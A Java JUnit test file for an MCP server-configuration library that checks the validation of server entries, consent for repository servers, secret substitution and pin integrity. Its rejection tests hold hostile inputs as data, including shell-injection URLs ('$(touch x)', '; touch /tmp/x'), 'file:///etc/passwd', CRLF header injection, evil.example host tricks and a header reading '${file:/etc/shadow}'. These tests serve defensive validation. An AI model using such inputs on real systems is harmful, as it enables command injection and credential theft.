package dev.freehold.mcp.configuration;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.freehold.mcp.McpException;
import dev.freehold.mcp.configuration.ServerConfiguration.Way;
import dev.freehold.mcp.pin.PinFile;
import java.io.IOException;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

class ServersFileTest {
  @TempDir private Path folder = Path.of("unset");

  private ServersFile file() {
    return new ServersFile(folder.resolve("mcp.json"), Path.of("/users-home"));
  }

  private static ObjectNode json(String text) {
    return JsonMapper.shared().readTree(text.replace('\'', '"')).asObject();
  }

  @Test
  void serversAreWrittenAndReadAsOtherProgramsHaveThem() throws IOException {
    assertThat(file().read()).isEmpty();
    file()
        .put(
            "files",
            json(
                "{'command': 'npx', 'args': ['-y', 'server'], 'env': {'KEY': '${KEY}'},"
                    + " 'cwd': '~/work', 'sandbox': true, 'readable': ['/opt/x'], 'timeout': 5,"
                    + " 'tools': ['read'], 'trustAnnotations': true,"
                    + " 'undo': {'read': {'tool': 'close', 'arguments': {'n': 1}}}}"));
    file()
        .put(
            "far",
            json(
                "{'type': 'http', 'url': 'https://example.org/mcp', 'disabled': true,"
                    + " 'headers': {'Authorization': 'Bearer ${TOKEN}'}}"));
    assertThat(file().read())
        .containsExactly(
            new ServerConfiguration(
                "files",
                new Way.Program(
                    List.of("npx", "-y", "server"),
                    Map.of("KEY", "${KEY}"),
                    Optional.of(Path.of("/users-home/work")),
                    true,
                    List.of(Path.of("/opt/x"))),
                Set.of("read"),
                true,
                Duration.ofSeconds(5),
                false,
                Map.of("read", new UndoCall("close", json("{'n': 1}")))),
            new ServerConfiguration(
                "far",
                new Way.Address(
                    URI.create("https://example.org/mcp"),
                    Map.of("Authorization", "Bearer ${TOKEN}")),
                Set.of(),
                false,
                Duration.ofSeconds(60),
                true));
    assertThat(Files.getPosixFilePermissions(folder.resolve("mcp.json")))
        .isEqualTo(PosixFilePermissions.fromString("rw-------"));
    assertThat(file().remove("files")).isTrue();
    assertThat(file().remove("files")).isFalse();
    assertThat(file().read()).extracting(ServerConfiguration::name).containsExactly("far");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{'url': 'http://example.org/mcp'}",
        "{'url': 'file:///etc/passwd'}",
        "{'url': 'https://user:word@example.org/'}",
        "{'url': 'https://example.org/$(touch x)'}",
        "{'url': 'http://127.0.0.1.evil.example/'}",
        "{'url': 'http://localhost@evil.example/'}",
        "{'url': 'javascript:alert(1)'}",
        "{'url': '; touch /tmp/x'}",
        "{'url': 'https://a/', 'command': 'x'}",
        "{'url': 'https://a/', 'type': 'sse'}",
        "{'url': 'https://a/', 'headers': {'X\\r\\nY': 'a'}}",
        "{'url': 'https://a/', 'headers': {'X': 'a\\r\\nY: b'}}",
        "{'url': 'https://a/', 'sandbox': true}",
        "{'command': ''}",
        "{'command': 'x', 'args': 'a b'}",
        "{'command': 'x', 'env': {'A=B': 'c'}}",
        "{'command': 'x', 'env': {'A': 1}}",
        "{'command': 'x', 'cwd': 'relative'}",
        "{'command': 'x', 'timeout': 0}",
        "{'command': 'x', 'timeout': '5'}",
        "{'command': 'x', 'readable': ['/a']}",
        "{'command': 'x', 'alwaysAllow': ['a']}",
        "{'command': 'x', 'disabled': 'no'}",
        "{}"
      })
  void whatIsNotAsItMustBeIsRefusedAndNotWritten(String server) {
    assertThatThrownBy(() -> file().put("one", json(server))).isInstanceOf(McpException.class);
    assertThat(folder.resolve("mcp.json")).doesNotExist();
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "a__b", "_a", "a-", "a b", "../x", "abcdefghijklmnopqrstuvwxyz"})
  void namesThatCouldBeTakenForOthersAreRefused(String name) {
    assertThatThrownBy(() -> file().put(name, json("{'command': 'x'}")))
        .isInstanceOf(McpException.class);
  }

  @Test
  void aRepositorysServersAreConfinedAndNeedConsentToTheirBytes() throws IOException {
    assertThat(WorkspaceServers.of(folder)).isEmpty();
    Path file = folder.resolve(".mcp.json");
    Files.writeString(file, "{\"mcpServers\": {\"r\": {\"command\": \"x\"}}}");
    WorkspaceServers first = WorkspaceServers.of(folder).orElseThrow();
    assertThat(((Way.Program) first.servers().getFirst().way()).isConfined()).isTrue();
    ConsentFile consents = new ConsentFile(folder.resolve("own/consents.json"));
    assertThat(consents.has(folder, first)).isFalse();
    consents.give(folder, first);
    assertThat(consents.has(folder, first)).isTrue();
    assertThat(consents.has(folder.resolve("own"), first)).isFalse();
    Files.writeString(file, "{\"mcpServers\": {\"r\": {\"command\": \"y\"}}}");
    assertThat(consents.has(folder, WorkspaceServers.of(folder).orElseThrow())).isFalse();
    consents.takeBack(folder);
    assertThat(consents.has(folder, first)).isFalse();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{'command': 'x', 'env': {'A': '${AWS_SECRET}'}}",
        "{'url': 'https://evil.example/', 'headers': {'A': '${file:/etc/shadow}'}}",
        "{'command': 'x', 'sandbox': false}",
        "{'command': 'x', 'trustAnnotations': true}",
        "{'command': 'x', 'cwd': '~/x'}"
      })
  void aRepositorysServersNameNoSecretsAndGetNoTrust(String server) throws IOException {
    Files.writeString(
        folder.resolve(".mcp.json"), "{\"mcpServers\": {\"r\": " + json(server) + "}}");
    assertThatThrownBy(() -> WorkspaceServers.of(folder)).isInstanceOf(McpException.class);
  }

  @Test
  void aLinkOrALargeFileOfARepositoryIsNotRead() throws IOException {
    Path other = Files.writeString(folder.resolve("other"), "{}");
    Files.createSymbolicLink(folder.resolve(".mcp.json"), other);
    assertThat(WorkspaceServers.of(folder)).isEmpty();
    Files.delete(folder.resolve(".mcp.json"));
    Files.writeString(folder.resolve(".mcp.json"), " ".repeat(70_000));
    assertThatThrownBy(() -> WorkspaceServers.of(folder)).hasMessageContaining("65,536 bytes");
  }

  @Test
  void secretsComeFromTheEnvironmentOrAFile() throws IOException {
    Path file = Files.writeString(folder.resolve("token"), " t0ken\n");
    Secrets secrets = new Secrets(Map.of("A", "a$1"));
    assertThat(secrets.fill(Map.of("x", "<${A}>", "y", "${file:" + file + "}"), "s"))
        .isEqualTo(Map.of("x", "<a$1>", "y", "t0ken"));
    Files.writeString(file, "first\r\nX-Other: second");
    assertThatThrownBy(() -> secrets.fill(Map.of("y", "${file:" + file + "}"), "s"))
        .isInstanceOf(McpException.class)
        .hasMessageNotContaining("second");
  }

  @Test
  void aPinThatWasChangedInItsFileIsNotBelieved() throws IOException {
    Path file = folder.resolve("pins.json");
    Files.writeString(
        file, "{\"format\": 1, \"servers\": {\"s\": {\"t\": {\"sha256\": \"00\", \"said\": {}}}}}");
    assertThatThrownBy(() -> new PinFile(file).of("s"))
        .isInstanceOf(McpException.class)
        .hasMessageContaining("the pin of \"t\" of server \"s\" is damaged");
    Files.writeString(file, "{\"format\": 2}");
    assertThatThrownBy(() -> new PinFile(file).of("s")).hasMessageContaining("\"format\": 1");
  }
}
